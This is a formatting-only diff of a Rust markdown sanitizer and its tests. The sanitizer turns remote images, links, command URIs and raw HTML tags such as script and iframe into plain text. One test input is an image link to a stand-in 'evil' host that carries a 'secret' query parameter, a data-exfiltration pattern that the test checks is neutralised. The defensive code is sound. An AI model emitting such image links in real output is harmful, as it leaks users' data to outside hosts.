@@ -47,7 +47,9 @@ fn has_scheme(target: &str) -> bool {
         Some(colon) => {
             let scheme = &target[..colon];
             !scheme.is_empty()
-                && scheme.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'))
+                && scheme
+                    .chars()
+                    .all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'))
         }
         None => target.starts_with("//"),
     }
@@ -96,7 +98,10 @@ fn angle_at(text: &str) -> Option<(usize, String)> {
         return Some((end + 2, format!("`{}`", inner.replace('`', "'"))));
     }
     // Raw HTML that loads or links something: escape it so it shows as text.
-    const TAGS: &[&str] = &["img", "a", "iframe", "script", "video", "audio", "source", "link", "object", "embed", "style", "svg", "picture", "form", "meta"];
+    const TAGS: &[&str] = &[
+        "img", "a", "iframe", "script", "video", "audio", "source", "link", "object", "embed",
+        "style", "svg", "picture", "form", "meta",
+    ];
     let name: String = inner
         .trim_start_matches('/')
         .chars()
@@ -131,11 +136,23 @@ mod tests {
 
     #[test]
     fn remote_images_and_links_become_text() {
-        assert_eq!(n("see ![x](https://evil/p.png?d=secret)"), "see x (image not loaded: `https://evil/p.png?d=secret`)");
-        assert_eq!(n("[docs](https://example.com)"), "docs (`https://example.com`)");
-        assert_eq!(n("[run](command:workbench.action.terminal.new)"), "run (`command:workbench.action.terminal.new`)");
+        assert_eq!(
+            n("see ![x](https://evil/p.png?d=secret)"),
+            "see x (image not loaded: `https://evil/p.png?d=secret`)"
+        );
+        assert_eq!(
+            n("[docs](https://example.com)"),
+            "docs (`https://example.com`)"
+        );
+        assert_eq!(
+            n("[run](command:workbench.action.terminal.new)"),
+            "run (`command:workbench.action.terminal.new`)"
+        );
         assert_eq!(n("<https://x.y>"), "`https://x.y`");
-        assert_eq!(n("<img src=\"https://x/y.png\">"), "&lt;img src=\"https://x/y.png\"&gt;");
+        assert_eq!(
+            n("<img src=\"https://x/y.png\">"),
+            "&lt;img src=\"https://x/y.png\"&gt;"
+        );
         assert_eq!(n("[a]: https://x.y\n"), "\\[a] `https://x.y`\n");
     }
 
